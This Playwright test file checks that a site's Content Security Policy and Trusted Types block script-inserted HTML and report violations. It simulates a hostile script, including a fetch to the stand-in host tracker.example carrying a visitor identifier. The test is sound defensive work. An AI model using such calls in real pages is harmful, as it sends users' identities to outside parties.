import type { Page } from '@playwright/test';
import { expect, test } from '../../scripts/testing/journey.ts';
import { enters } from './staff.ts';

const BLOCKED = [/Content Security Policy/, /This document requires 'TrustedHTML'/];

/** What a script of a stranger would do. Returns the error. */
const insertsHtml = (page: Page) =>
  page.evaluate(() => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<img src="/nothing" alt="inserted">');
      return 'inserted';
    } catch (error) {
      return (error as Error).name;
    }
  });

/** Older browsers know no other address to report to. With the newer way, Chromium reports over HTTPS only. */
const readsAsOlderBrowser = (page: Page) =>
  page.route('/', async (route) => {
    const response = await route.fetch();
    const { 'content-security-policy': policy = '', ...headers } = response.headers();
    await route.fulfill({ response, headers: { ...headers, 'content-security-policy': policy.replace('report-to csp;', '') } });
  });

// @asvs 3.2.2
test('browsers report what they block; a script cannot insert HTML', async ({ newPage }) => {
  const visitor = await newPage({ allow: BLOCKED });
  await readsAsOlderBrowser(visitor);
  const reported = (text: string) =>
    visitor.waitForResponse(
      (response) => response.url().endsWith('/api/csp-reports') && response.request().postData()?.includes(text) === true,
    );
  const reports = Promise.all([reported('tracker.example'), reported('trusted-types-sink')]);
  await visitor.goto('/');
  expect(await insertsHtml(visitor)).toBe('TypeError');
  await visitor.evaluate(() => fetch('https://tracker.example/t?visitor=ann').catch(() => undefined));
  for (const report of await reports) expect(report.status()).toBe(204);
  await expect(visitor.getByAltText('inserted')).toHaveCount(0);

  const staff = await newPage({ allow: BLOCKED });
  await enters(staff);
  expect(await insertsHtml(staff)).toBe('TypeError');
});
